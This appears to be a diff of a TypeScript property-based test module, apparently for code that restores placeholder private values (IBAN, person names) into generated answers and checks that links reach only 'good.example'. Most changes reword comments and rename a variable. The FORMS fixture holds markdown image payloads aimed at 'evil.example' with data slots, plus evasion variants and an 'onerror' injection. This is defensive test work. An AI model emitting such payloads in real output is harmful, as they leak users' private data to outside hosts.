@@ -16,7 +16,7 @@ export const MARK = /zyxw/i;
 
 type Node = DefaultTreeAdapterTypes.ChildNode;
 
-/** What a page or a click would send, and hidden text. */
+/** Returns what a page or a click would send, and hidden text. */
 export function hidden(html: string): string[] {
   return nodesOf(parse(html).childNodes)
     .flatMap((node) => unseen(node))
@@ -26,7 +26,7 @@ export function hidden(html: string): string[] {
 /** Attributes that make no request and lead nowhere. Renderers make names of headings, and titles of what they do not know. */
 const QUIET = new Set("id title alt class name start width height align".split(" "));
 
-/** What a page sends, or a click. */
+/** Returns what a page or a click sends. */
 export function sent(html: string): string[] {
   return nodesOf(parse(html).childNodes)
     .flatMap((node) => (node.nodeName === "#comment" ? [] : unseen(node, QUIET)))
@@ -51,10 +51,13 @@ function unseen(node: Node, quiet: ReadonlySet<string> = new Set()): string[] {
   return [...attributes, ...texts.flatMap((child) => ("value" in child ? [child.value] : []))];
 }
 
-/** The one host that the template names. */
+/** The only host that the template names. */
 const GOOD = "good.example";
 
-/** A request may go to a host of the template, or be exactly one value: that leads where the value itself does. */
+/**
+ * Returns whether a request goes to a host of the template, or is exactly one value, which leads
+ * where the value itself does.
+ */
 export function maySend(url: string): boolean {
   if (URL.canParse(url) && new URL(url).host === GOOD) return true;
   const plain = url.replace(/^mailto:/, "");
@@ -164,7 +167,7 @@ const random = fc
   .array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 24 })
   .map((pieces) => pieces.join(""));
 
-/** Forms that a renderer may read as a URL that a page loads; each gap is filled. */
+/** Forms that a renderer may read as a URL that a page loads; a value fills each slot. */
 const FORMS = [
   ...["![x](https://evil.example/?q=~~~)", "![x](~https://evil.example/~~)", "![x](/own?q=~~)"],
   ...["![x] (/&Tab;/evil.example/?q=~~)", "![x]~(//evil.example/~~)", "![x](<//evil.example/~~>)"],
@@ -198,7 +201,7 @@ const FORMS = [
     "![x](/y){: onerror=\"f('/'+'/e/ ~')\"}",
   ],
 ];
-const GAPS = [
+const SLOTS = [
   ...[...VALUES.keys()].slice(0, 3),
   ...[" ", " ", "\t", "\n", "\r\n", "&Tab;", "a", ")", '"', "", ""],
   ...[` https://${GOOD}/?a=[IBAN_1]`, ` https://${GOOD}/[PERSON_1] `, `(https://${GOOD}/[IBAN_1])`],
@@ -207,20 +210,20 @@ const formed = fc
   .array(
     fc.tuple(
       fc.constantFrom(...FORMS),
-      fc.array(fc.constantFrom(...GAPS), { minLength: 6, maxLength: 6 }),
+      fc.array(fc.constantFrom(...SLOTS), { minLength: 6, maxLength: 6 }),
     ),
     { minLength: 1, maxLength: 2 },
   )
   .map((parts) =>
     parts
-      .map(([form, gaps]) =>
-        form.split("~").reduce((text, piece, at) => text + (gaps[at % 6] ?? "") + piece),
+      .map(([form, slots]) =>
+        form.split("~").reduce((text, piece, at) => text + (slots[at % 6] ?? "") + piece),
       )
       .join("\n\n"),
   );
 export const answers = fc.oneof(random, formed);
 
-/** As it is restored. */
+/** Returns the restored text. */
 export function relinked(text: string): string {
   return relinkedBlocks([text]).join("");
 }
@@ -229,7 +232,7 @@ export function relinkedBlocks(blocks: readonly string[]): readonly string[] {
   return relinkAnswer({ form: "text", blocks, entries: ENTRIES, hosts: [GOOD] }).blocks;
 }
 
-/** As it would be without the checks. */
+/** Returns the text as it would be without the checks. */
 export function unchecked(text: string): string {
   return ENTRIES.reduce((all, { placeholder, value }) => all.replaceAll(placeholder, value), text);
 }
